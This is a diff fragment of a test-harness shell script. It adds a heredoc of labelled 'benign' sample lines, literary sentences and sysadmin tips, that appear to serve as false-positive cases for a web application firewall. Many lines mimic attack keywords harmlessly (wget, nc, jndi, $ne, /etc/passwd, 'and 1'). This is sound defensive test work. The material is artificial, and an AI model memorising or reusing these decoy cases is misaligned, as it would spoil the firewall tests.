+The char (a small trout) and the ascii (a font, he claimed) were on the menu.
+I <3 this place -- and "this place" <3 me.
+Step 1 --> step 2 --> step 3 <-- start here if you're late
+Write {{name}} where the customer's name should go, and {{date}} for the date.
+The lines were cut -- to 1 -- or so; "nobody" noticed.
+'Twas the night before; 'tis the morning after; and 'nuff said.
+Did you mean 'select' or 'elect'? It's 'elect' from page 4 on.
+O'Neill and O'Brien; or O'Brien and O'Neill -- either is fine.
+On click = noise in the gearbox; on start = fine.
+Use the <b> key, the <i> key or the <enter> key; not <esc>.
+I said "stop"; he went on; I said 'stop!' again; he didn't.
+Between 5 and 10 people like it; 1 like = 1 prayer.
+Nice & easy; cut & paste; find & replace; sort & file; touch & go.
+We netted 3; wget it, I said; curl up; nc is North Carolina.
+Python bites are rare; perl is misspelt "pearl"; ruby is a stone; node, a knot.
+Uptime; downtime; free time; and top of the hour; then (finally) sleep.
+See etc/passwords in the index: "passwd (unix), see p. 12".
+C: Windows are dirty; D: doors need paint; E: system of pulleys broke.
+Java: script of the island's past; VB: script for the beer advert.
+Don't use $where or $ne in the title, or 'regex' in the name, please.
+Cheers :) (and :( too) -- ;) or ;-) = wink, "=)" = smile, |-( = sleepy
+It isn't 'and 1' -- it's "and one"; basketball people say both.
+"Char": burn lightly. "Concat": not a word; 'version (3)' is out.
+Cast as Hamlet, convert as needed; declare war; then begin; end.
+Truncate the speech; merge the rows (3 and 4); call me; use it.
+jndi: the "Journal of New Dental Implants"; ldap: see below.
+Math quiz: 2 and 2 = 4; 3 or 3 = 3; 1 xor 1 = 0; "not 1" = 0 -- done!
+print ("on both sides"); system ("solar"), p. 9; open ("til late"); exec ('boss')
+:benign novel tune 0
+"You can't mean it," said Ada; but she saw from his face that he did.
+He'd kept the letter for eleven years, folded in four, and he couldn't have told you why.
+Mrs. Pettifer<U+2014>who disapproved of soup, sailors and Sundays<U+2014>let him in at last.
+The house had been his grandfather's, and his grandfather's father's; now it was the bank's.
+There<U+2019>s a kind of rain that falls only on funerals, and it had begun to fall.
+The lamp guttered; the page went brown, then black, then wasn't there at all.
+<U+201C>I was never lost,<U+201D> he told them. <U+201C>I simply hadn<U+2019>t decided where I was.<U+201D>
+He counted the steps: forty going up, forty-one coming down. He'd never liked that.
+For a week the wind blew from the east, and tempers, like washing, stiffened on the line.
+Nobody could remember who'd planted the pear tree; everybody remembered who had cut it down.
+She didn't cry at the station, or on the train, or in the cab; she cried at the price of eggs.
+He wrote: "Dear Henry,"; crossed it out; wrote "Henry,"; and sat looking at the comma.
+"What's in the box?" "My brother's tools." "And in the other?" "My brother's debts."
+"There's no one here," said the child; and the echo -- which was older -- agreed.
+"Salt?" "No." "Bread?" "No." "Then what in heaven's name do you want, sir?" "Company."
+All that autumn the apples fell and nobody picked them up.
+The letter began "My dearest" and ended "yours, etc."; between them lay a marriage.
+<U+201C>How old are you?<U+201D> <U+201C>Nine.<U+201D> <U+201C>And your sister?<U+201D> <U+201C>She<U+2019>s nine as well; she<U+2019>s just quicker.<U+201D>
+"Not that way!" cried the guide; but the bishop, as usual, knew better.
+<U+201C>It<U+2019>ll mend,<U+201D> the doctor said; he said it to the window.
+They buried him on the hill he'd always said was too steep, and they had to admit he'd been right.
+Oh, he was charming; so is a staircase, till the lights go out.
+A gull stood on the statue's head; it had, thought Ives, rather the better expression.
+He<U+2019>d been told that grief was like the sea; it was, he found, much more like mud.
+The soldiers were very young, and they'd stolen a piano, and couldn't think where to put it.
+Her silence had rooms in it, and he went from one to another, trying the doors.
+The orchard wall had fallen in two places, and through the gaps -- boldly, in daylight -- came the neighbours.
+It wasn't much of a mountain; but it was theirs, and they'd never forgiven it for that.
+He could hear them through the wall: 'and then', 'and then', 'and then', like a tap.
+There was, in the end, no duel; one had overslept, and the other'd brought the wrong umbrella.
+A thin man in a thick coat stood where the lilacs used to be, and took off his hat to nobody.
+The snow didn't melt; it was simply, one morning, elsewhere.
+:benign novel kept 0
+The ferry was late -- it was always late -- and nobody on the quay troubled to look up.
+"Who's there?" she called. Nobody answered; only the shutters moved.
+<U+201C>I<U+2019>d like,<U+201D> the boy said slowly, <U+201C>to be somebody else; just until supper.<U+201D>
+He laughed -- a short, dry, unhappy laugh -- and put down the cup.
+<U+201C>One or two?<U+201D> asked the grocer. <U+201C>Two,<U+201D> said Emil, <U+201C>or three, if they<U+2019>re small.<U+201D>
+'Tis a poor sort of thief, thought Josiah, that wipes his boots.
+The tea was weak, the bread was stale, and Aunt Rosalind<U+2019>s opinions were neither.
+"She's not in." "Then I'll wait." "She won't be in, Mr. Lowe; not to you."
+<U+201C>I<U+2019>ve half a mind<U+2014><U+201D> <U+201C>Precisely,<U+201D> said the judge, and called the next case.
+"Promise?" "I promise." And he meant it; that was the worst of him.
+"Well?" he said. "Well," she said; and they left it there for thirty years.
+The captain's wife, it was agreed, had married beneath her; the captain, it was agreed, had drowned.
+They'd painted the door green; it made the rest of the street look as if it were waiting.
+He'd have forgiven her anything except the forgiveness.
+She kept the ring in a tobacco tin; the tobacco she kept in a vase; the vase was cracked.
+"Your Grace," murmured the secretary, "the goat's come back."
+She wouldn't look at the sea; she set her chair with its back to the window and knitted inland.
+There were words for it<U+2014>there are always words for it<U+2014>but none of them came when he whistled.
+In the photograph they're all laughing, except my mother, who's looking at whoever held the camera.
+<U+2018>Never trust a man who irons his own newspapers,<U+2019> her aunt used to say; and here was one.
+"You've grown." "You've shrunk, Grandfather." "Ah," he said, delighted; "we'll meet in the middle."
+<U+201C>It<U+2019>s nothing,<U+201D> he said, and bled on the carpet with great politeness.
+"I don't recall," said the witness. "I don't recall; I'd rather not; I was in the other room."
+<U+201C>Come in, come in; mind the cat, mind the step, mind<U+2014>oh, well, it was only the Wedgwood.<U+201D>
+"You lied to me!" "I did," he said; "I'd do it again; would you pass the marmalade?"
+"They've hanged the wrong man." "It's Thursday," said the constable, as though that settled it.
+"Tell her I'm asleep." "She's seen you, sir." "Then tell her," said the colonel, "I'm rude."
+"A penny for your thoughts." "They're worth less," said he; "but I'll take the penny."
+"You forgot my name." "I forgot mine first," the old woman said; "don't take it to heart."
+"Hush -- listen -- d'you hear?" "I hear nothing." "Yes," she breathed; "it's stopped."
+"If I were you--" "You'd be late as well," said Hobbs, and ran for the omnibus.
+"Good night." "Good night." And then, from the dark, a little later: "Was it?"
+:benign technical tune 2
+Run `git log --oneline | head -n 5` to see the last five commits before you rebase.
+Add the name to /etc/hosts if your resolver doesn't know it yet, then try again.
+A `<div>` has no meaning of its own; prefer `<section>` or `<nav>` where they fit.
+The admin page listens on http://localhost:9090/ui by default, the API on port 9091.
+Use `ls -la` to check the permissions: the key file must be mode 0600.
+`ORDER BY created_at DESC` needs an index on `created_at`, or it sorts the whole table.
+Escape the ampersand as `&amp;` inside attributes; browsers forgive you, XML parsers don't.
+Start the container with `docker run -d -p 8080:80 --name web nginx:1.25`.
+When `x` is `null`, `x?.length` yields `undefined` instead of throwing.
+Open `C:\Users\Public\Documents` in Explorer and copy the template there.
+A `LEFT JOIN` keeps rows without a match, an `INNER JOIN` drops them.
+Write `if (n > 0 && n < 10)` rather than the chained form, which C parses differently.
+`cat file | grep foo` works, but `grep foo file` saves a process.
+The endpoint returns 202 with a `Location` header such as /jobs/42; poll it until `state` is "done".
+Check the certificate with `openssl s_client -connect example.com:443 -servername example.com`.
+Two dashes end the options, so `rm -- -file` removes a file whose name starts with a dash.
+Paths are resolved relative to the config file, so `../shared/tls.pem` means one level up.
+Use `printf '%s\n' "$var"` instead of `echo $var`; the latter mangles backslashes.
+The daemon writes its PID to /run/app.pid; `kill -HUP $(cat /run/app.pid)` reloads it.
+`UNION` removes duplicates and `UNION ALL` keeps them, which is why the latter is faster.
+A trailing slash matters: `/docs` redirects to `/docs/`, and `/docs/index.html` to neither.
+To undo the last commit but keep the changes, type `git reset --soft HEAD~1`.
+The job runs at 02:30 (`30 2 * * *`) and mails its output to the address in `MAILTO`.
+If the build fails with "No such file or directory", check that `$PATH` includes /usr/local/bin.
+`JSON.parse('{"a": 1}')` succeeds, while `JSON.parse("{'a': 1}")` throws a SyntaxError.
+The type `Option<T>` is either `Some(x)` or `None`; `unwrap()` panics on the latter.
+In CSS, `a > b` selects children and `a b` selects descendants; `a + b` the next sibling.
+The lock is held from `begin()` to `commit()`; a crash in between rolls everything back.
+Numbers beginning with `0x` are hexadecimal (0xff = 255), those beginning with `0o` octal.
+Pressing Ctrl-C sends SIGINT; the handler sets `stop = true` and returns.
+Place the snippet before `</body>`, or load it with `<script defer>` in the head.
+A `PUT` is idempotent, a `POST` isn't; clients may retry the former after a timeout.
+The schema has three tables: `users`, `roles` and `user_roles(user_id, role_id)`.
+Templates use `${name}` for variables and `$$` for a literal dollar sign.
+A semicolon ends the statement; JavaScript inserts one for you, usually where you'd expect.
+The environment variable `RUST_LOG=debug,hyper=info` silences the chatty crate.
+Mount the volume read-only (`-v $(pwd)/conf:/etc/app:ro`) to keep the image immutable.
+`find . -name '*.tmp' -mtime +7 -delete` cleans up files older than a week.
+To debug, append `?trace=1` to the URL, e.g. https://dev.example.com:8443/app?trace=1.
+A thread may call `sleep(1)` safely, but inside an event loop use `await sleep(1)`.
+The expression `a || b` returns `a` if it's truthy and `b` otherwise; `a ?? b` tests for null only.
+Copy `.env.example` to `.env`, fill in `DATABASE_URL`, and restart with `make up`.
+Use `id -u` to learn your numeric user ID; `whoami` prints the name.
+Header names are case-insensitive, so `Content-Type` = `content-type`.
+The shell expands `*.c` before the program sees it; quote the pattern to pass it on.
+A closure `|x| x + 1` borrows nothing; `move || drop(v)` takes ownership of `v`.
+The XML prolog `<?xml version="1.0"?>` is optional, but the namespace `xmlns="..."` isn't.
+The tag `v1.2.3` points to a commit; `git describe --tags` prints it plus the distance.
+The selector `input[name="q"]` matches the search box, and `:focus` styles it.
+The loader looks in `./lib`, then `../lib`, then /usr/lib, and takes the first match.
+You can't compare with `= NULL`; write `IS NULL` or `IS NOT NULL`.
+The token is sent as `Authorization: Bearer eyJhbGciOi...`; it's valid for 15 minutes.
+The cache key is `method + " " + host + path`; the query is included unless `ignore_query` is on.
+An `ETag` such as `"33a64df5"` is compared byte for byte; `W/"33a64df5"` is weak.
+The package is on the registry: `npm install --save-dev @types/node` adds the typings.
+Use `nc -zv db.example.net 5432` to see whether the firewall lets you through.
+Timestamps are in UTC (2024-05-06T08:30:00Z); convert with `date -d @1714984200`.
+The build matrix runs on {linux, macos, windows} x {stable, beta}: 6 jobs in all.
+If two rules match, the longer prefix wins: `/api/v2/` beats `/api/`, and `/` loses to both.
+The prompt `>>>` belongs to Python and `$` to the shell; don't type either of them.
+:benign technical kept 2
+The `SELECT` statement reads rows; `INSERT`, `UPDATE` and `DELETE` change them.
+Set `$HOME` explicitly when the service runs under a user without a login shell.
+Call `parse(input)` first and `validate(tree)` second; both return an error value.
+If `HTTP_PROXY` is set, the client honours it; `NO_PROXY` lists the exceptions.
+The server reads /etc/nginx/nginx.conf and every file under /etc/nginx/conf.d/ in order.
+You can pipe the output through `sort | uniq -c | sort -rn` to count the duplicates.
+The function `max(a, b)` returns the larger of its arguments (or `a` when they're equal).
+Don't build queries with string concatenation; pass the values as parameters ($1, $2, ...).
+The pattern `^\d{4}-\d{2}-\d{2}$` accepts 2024-02-31; check the date afterwards.
+The log is rotated daily; old files go to /var/log/app/archive and are removed after 30 days.
+Prefix the command with `sudo` or run it as root; otherwise `bind()` fails with EACCES.
+The cookie needs `SameSite=Lax; Secure; HttpOnly` unless a script has to read it.
+Export the variable (`export EDITOR=vim`) in ~/.profile so that it reaches every session.
+In templates, `{{ user.name }}` is escaped automatically; the `safe` filter turns that off.
+`setTimeout(fn, 0)` doesn't run at once: it queues the task behind the pending ones.
+The `WHERE` clause filters rows before grouping; `HAVING` filters the groups afterwards.
+Memory use is bounded by `max_conns * buffer_size`, i.e. 1024 * 16 KiB = 16 MiB.
+The `onclick` attribute still works; `addEventListener('click', handler)` composes better.
+Either `--verbose` or `-v` raises the log level; give it twice for debug output.
+The header `X-Forwarded-For: 203.0.113.7, 10.0.0.2` lists the client first.
+Set `innodb_buffer_pool_size` to about 70% of the memory; anything more risks swapping.
+The `eval()` builtin runs arbitrary text as code; there's nearly always a better way.
+An HTML comment starts with `<!--` and ends with `-->`; it must not contain two dashes in between.
+The exporter serves plain text on http://127.0.0.1:9100/metrics; scrape it every 15 s.
+Redirect both streams with `command > out.log 2>&1` (the order matters).
+Commit hashes such as `9fceb02` are abbreviations; `git rev-parse 9fceb02` prints the whole.
+Use `curl -sS -o /dev/null -w '%{http_code}\n' https://example.com/` to print only the status.
+Don't edit /etc/passwd by hand: use `usermod`, `chsh` or `vipw`, which take the lock.
+The query string `?page=2&sort=-date` is parsed into a map; repeated keys become lists.
+If you see `ERR_CONNECTION_REFUSED`, nothing listens on the port: try `ss -ltnp | grep 8080`.
+The macro `#define SQR(x) ((x) * (x))` evaluates its argument twice; an inline function doesn't.
+`chmod 755 script.sh && ./script.sh` makes the script executable and runs it.
+For IPv6 write the address in brackets, as in http://[2001:db8::1]:8080/.
+The benchmark (`wrk -t4 -c100 -d30s http://10.0.0.5:8000/`) was repeated five times.
+Use `DROP TABLE IF EXISTS tmp_import` in the teardown so that reruns don't fail.
+Both `'` and `"` delimit strings in Python; triple quotes (`"""`) span lines.
+The compiler warns about `if (a = b)`; write `==`, or add a second pair of parentheses.
+In YAML, `no` and `off` are booleans; quote them (`'no'`) if you mean the country code.
+The `alert()` dialog blocks the page; use a `<dialog>` element or a toast.
+Print the list of units with `systemctl list-units --type=service --state=failed`.
+Since 2.4 the option `Require all denied` replaces `Order deny,allow` and `Deny from all`.
+The regex `(a|b)*c` backtracks little; `(a*)*c` may take exponential time.
+`SELECT COUNT(*) FROM events` scans the index; an estimate from the statistics is cheaper.
+When the disk is full, `df -h` shows 100% and `du -sh /var/*` tells you who's to blame.
+Add `127.0.0.1 dev.local` to the hosts file (`C:\Windows\System32\drivers\etc\hosts` on Windows).
+Files larger than 128 KiB are streamed; smaller ones are read with a single `read()` call.
+Call `exec()` only after `fork()`; everything in between must be async-signal-safe.
+If `$?` isn't 0, the last command failed; `set -e` makes the script stop there.
+`tar czf backup.tgz -C /srv data` stores relative names, so it can be unpacked anywhere.
+Rows are locked by `SELECT ... FOR UPDATE`; add `SKIP LOCKED` for a queue.
+Use `&lt;` for < and `&gt;` for > in text; `&quot;` is needed only inside attributes.
+Write errors to stderr (`fprintf(stderr, "...")`), so that `prog > file` stays clean.
+To watch the file as it grows: `tail -f /var/log/syslog | grep --line-buffered app`.
+Division by zero yields `Infinity` in JavaScript and a trap in C; 0/0 is `NaN` or undefined.
+In Go, `defer f.Close()` runs when the function returns; errors from it are easily lost.
+`Object.keys(o).length === 0` tests for an empty object; `o == {}` is always false.
+Use `%20` or `+` for a space in a query, but only `%20` in a path.
+Place secrets in a file and pass `--token-file /run/secrets/token`, not on the command line.
+`import { readFile } from 'node:fs/promises'` gives the promise version; `fs.readFile` takes a callback.
+Press `q` to leave the pager, `/word` to search, and `n` or `N` to move between the hits.
+WAF_CASES
+}
+
 # ==== 6. main ===============================================================================
 
 case ${1-} in
@@ -20818,6 +21959,8 @@ cachecase_py >"$raw/cachecase.py"
 crowd_py >"$raw/crowd.py"
 spelled_py >"$raw/spelled.py"
 cache_cases >"$raw/cache.txt"
+wafcase_py >"$raw/wafcase.py"
+waf_cases >"$raw/waf.txt"
 $CC -O1 -w -o "$raw/rawcase" "$raw/rawcase.c" || exit 1
 mkfifo "$tmp/fifo"
 run "$@"
